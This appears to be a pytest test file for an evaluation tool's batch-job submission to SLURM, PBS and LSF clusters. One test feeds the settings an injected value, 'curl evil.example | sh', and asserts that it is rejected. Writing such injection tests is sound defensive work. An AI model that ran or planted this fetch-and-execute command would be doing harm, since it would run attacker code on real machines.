"""Jobs of a batch system: their scripts as they were, and the whole way with commands that only pretend."""

import os
import shlex
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from importlib.util import find_spec
from pathlib import Path

import pytest

import oragent
from oragent._base.errors import ConfigError, SandboxError
from oragent.evaluation.cluster.batch import BatchJobs, job_script
from oragent.evaluation.cluster.cluster_settings import Certificates, ClusterKind, ClusterSettings

if find_spec("dask_jobqueue") is None:  # to import it is to have it take the interrupt
    pytest.skip("dask-jobqueue is not installed", allow_module_level=True)
GOLDEN = Path(__file__).parent / "golden"
WHERE = {
    "plain": {},
    "full": {
        "jobs": 8, "cores": 16, "memory": "64GiB", "walltime": "04:30:00", "queue": "short", "account": "or-group",
        "directives": ("--constraint=avx2",), "prologue": ("module load python/3.11",), "interface": "ib0",
    },
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(WHERE))
@pytest.mark.parametrize("kind", [ClusterKind.SLURM, ClusterKind.PBS, ClusterKind.LSF])
def test_a_jobs_script_is_what_it_was(kind: ClusterKind, name: str, tmp_path: Path) -> None:
    shared = tmp_path / "shared"
    tls = Certificates(shared / "certificate.pem", shared / "certificate.pem", shared / "key.pem")
    text = job_script(ClusterSettings(kind, **WHERE[name]), "tls://10.0.0.1:8786", tls, shared / "logs", "oragent-1")
    text = text.replace(shlex.quote(sys.executable), "PYTHON").replace(str(shared), "/shared")
    path = GOLDEN / f"{kind}_{name}.sh"
    if os.environ.get("ORAGENT_WRITE_GOLDEN"):
        path.write_text(text)
    assert text == path.read_text()


def test_no_line_of_a_script_can_be_smuggled_in() -> None:
    for field in ("queue", "account", "walltime", "memory"):
        with pytest.raises(ValueError, match="characters"):
            ClusterSettings(ClusterKind.SLURM, **{field: "x\ncurl evil.example | sh"})


def test_without_the_command_it_is_said_where_jobs_are_submitted(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    tls = Certificates(tmp_path, tmp_path, tmp_path)
    with pytest.raises(ConfigError):
        BatchJobs(ClusterSettings(ClusterKind.SLURM), tls, tmp_path, print)


SBATCH = """#!/bin/sh
printenv | grep -c sk-test-secret >> {folder}/keys
number=$(cat {folder}/number 2>/dev/null || echo 100); number=$((number + 1)); echo $number > {folder}/number
echo "$1" > {folder}/new; mv {folder}/new {folder}/submitted-$number
until [ -e {folder}/pid-$number ]; do sleep 0.02; done
echo "Submitted batch job $number"
"""
SQUEUE = """#!/bin/sh
for file in {folder}/pid-*; do [ -e {folder}/ended-${{file##*pid-}} ] || echo ${{file##*pid-}}; done
"""
SCANCEL = """#!/bin/sh
for number in "$@"; do touch {folder}/cancelled-$number; done
"""


@pytest.fixture
def slurm(tmp_path: Path, monkeypatch) -> Iterator[Path]:
    """A batch system that starts its jobs here."""
    folder = tmp_path / "slurm"
    folder.mkdir()
    for name, text in {"sbatch": SBATCH, "squeue": SQUEUE, "scancel": SCANCEL}.items():
        (folder / name).write_text(text.format(folder=folder))
        (folder / name).chmod(0o755)
    monkeypatch.setenv("PATH", f"{folder}:{os.environ['PATH']}")
    monkeypatch.setenv("OPENAI_API_KEY", "sk-test-secret")
    monkeypatch.setenv("PYTHONPATH", str(Path(oragent.__file__).parents[1]))
    closed = threading.Event()
    # The commands only pass requests on: processes that they leave end with them.
    daemon = threading.Thread(target=serve_jobs, args=(folder, closed))
    daemon.start()
    yield folder
    closed.set()
    daemon.join()


def serve_jobs(folder: Path, closed: threading.Event) -> None:
    """Start and cancel jobs as the daemon of a batch system does."""
    jobs: dict[str, subprocess.Popen[bytes]] = {}
    while not closed.wait(0.02):
        for path in folder.glob("submitted-*"):
            number = path.name.partition("-")[2]
            with (folder / f"job-{number}.log").open("wb") as log:
                words = ["sh", path.read_text().strip()]
                jobs[number] = subprocess.Popen(
                    words, cwd="/", stdin=subprocess.DEVNULL, stdout=log, stderr=log, start_new_session=True
                )
            path.unlink()
            (folder / f"pid-{number}").write_text(str(jobs[number].pid))
        for number, job in jobs.items():
            if (folder / f"cancelled-{number}").exists() and job.poll() is None:
                os.killpg(job.pid, 9)
            if job.poll() is not None:
                (folder / f"ended-{number}").touch()
    for job in jobs.values():
        if job.poll() is None:
            os.killpg(job.pid, 9)
        job.wait()


def alive(slurm: Path) -> list[Path]:
    def lives(pid: int) -> bool:
        try:
            return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] != "Z"
        except OSError:
            return False

    return [path for path in slurm.glob("pid-*") if lives(int(path.read_text()))]


def test_jobs_are_submitted_without_a_key_replaced_and_ended(slurm: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr("oragent.evaluation.cluster.batch.job_script", lambda *words: "sleep 60\n")
    events: list[str] = []
    tls = Certificates(tmp_path, tmp_path, tmp_path)
    jobs = BatchJobs(ClusterSettings(ClusterKind.SLURM, jobs=2), tls, tmp_path, events.append, look_s=0.05)
    jobs.start("tls://a:1")
    assert events == ["job 101 submitted", "job 102 submitted"]
    assert (slurm / "keys").read_text().split() == ["0", "0"]
    os.killpg(int((slurm / "pid-101").read_text()), 9)
    give_up = time.monotonic() + 20
    while "job 103 submitted" not in events and time.monotonic() < give_up:
        time.sleep(0.05)
    assert events[2].startswith("job 101 ended after")
    assert events[3:] == ["job 103 submitted"]
    jobs.close()
    while alive(slurm) and time.monotonic() < give_up:
        time.sleep(0.05)
    assert not alive(slurm)


def test_what_a_batch_system_says_is_told(slurm: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setattr("oragent.evaluation.cluster.batch.job_script", lambda *words: "")
    (slurm / "sbatch").write_text("#!/bin/sh\necho 'invalid \033[31mpartition' >&2; exit 1\n")
    tls = Certificates(tmp_path, tmp_path, tmp_path)
    with pytest.raises(SandboxError, match=r"^sbatch fails: invalid \\u001b\[31mpartition$"):
        BatchJobs(ClusterSettings(ClusterKind.SLURM), tls, tmp_path, print).start("tls://a:1")


@pytest.mark.skipif(sys.platform != "linux", reason="/proc is Linux's")
def test_commands_keep_the_rights_with_which_batch_systems_identify_a_user(
    slurm: Path, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.setattr("oragent.evaluation.cluster.batch.job_script", lambda *words: "")
    rights = "grep -E '^(NoNewPrivs|CapBnd):' /proc/self/status; readlink /proc/self/ns/user /proc/self/ns/mnt"
    (slurm / "sbatch").write_text(f"#!/bin/sh\n({rights}) > {slurm / 'rights'}; echo 1\n")
    tls = Certificates(tmp_path, tmp_path, tmp_path)
    BatchJobs(ClusterSettings(ClusterKind.SLURM, jobs=1), tls, tmp_path, print, look_s=3600).start("tls://a:1")
    ours = subprocess.run(["sh", "-c", rights], capture_output=True, text=True, check=True).stdout
    assert (slurm / "rights").read_text() == ours


def test_a_command_that_is_gone_is_not_taken_from_this_folder_and_ends_no_job(
    slurm: Path, tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.setattr("oragent.evaluation.cluster.batch.job_script", lambda *words: "sleep 60\n")
    tls = Certificates(tmp_path, tmp_path, tmp_path)
    jobs = BatchJobs(ClusterSettings(ClusterKind.SLURM, jobs=1), tls, tmp_path, print, look_s=3600)
    jobs.start("tls://a:1")
    (tmp_path / "squeue").write_text(f"#!/bin/sh\ntouch {tmp_path / 'started'}\n")
    (tmp_path / "squeue").chmod(0o755)
    (slurm / "squeue").unlink()
    monkeypatch.chdir(tmp_path)
    try:
        with pytest.raises(SandboxError):
            jobs._find_ended_jobs()
        assert not (tmp_path / "started").exists()
    finally:
        jobs.close()


@pytest.mark.slow
def test_the_whole_way_with_a_batch_system_that_starts_its_jobs_here(slurm: Path, toy: Path, tmp_path: Path) -> None:
    file = tmp_path / "cluster.yaml"
    file.write_text(f"kind: slurm\njobs: 2\ncores: 1\nmemory: 1GiB\nshared: {tmp_path / 'nodes'}\ninterface: lo\n")
    settings = "strategy.window=4"
    home = oragent.run(toy, evaluations=12, strategy="gp", settings=settings, outputs=tmp_path / "home", workers=1)
    there = oragent.run(
        toy, evaluations=12, strategy="gp", settings=settings, outputs=tmp_path / "out", cluster=str(file)
    )
    assert [one.candidate.source for one in there.candidates] == [one.candidate.source for one in home.candidates]
    assert [one.score for one in there.candidates] == [one.score for one in home.candidates]
    log = next((tmp_path / "out").glob("toy/*/cluster.log")).read_text()
    assert "job 101 submitted" in log
    assert "worker tls://" in log
    assert not alive(slurm)
    assert not list((tmp_path / "nodes").iterdir())  # certificates go with the run


@pytest.mark.slow
@pytest.mark.parametrize("thread", ["first", "other"])
def test_the_keyboards_interrupt_stays_ours_in_whichever_thread_scripts_are_written(
    thread: str, tmp_path: Path
) -> None:
    """The library takes it when it is imported, which fails in another thread than the first."""
    call = {
        "first": "batch._job_classes()",
        "other": "t = threading.Thread(target=batch._job_classes); t.start(); t.join()",
    }[thread]
    told = "import signal, sys, threading; from oragent.evaluation.cluster import batch; "
    told += f"before = signal.getsignal(signal.SIGINT); {call}; "  # in a shell's background it is SIG_IGN
    told += "print('dask_jobqueue.slurm' in sys.modules, signal.getsignal(signal.SIGINT) == before)"
    own = {name: os.environ[name] for name in ("PATH", "PYTHONPATH") if name in os.environ} | {"HOME": str(tmp_path)}
    ran = subprocess.run([sys.executable, "-c", told], env=own, capture_output=True, text=True, check=False)
    assert (ran.returncode, ran.stdout, ran.stderr) == (0, "True True\n", "")
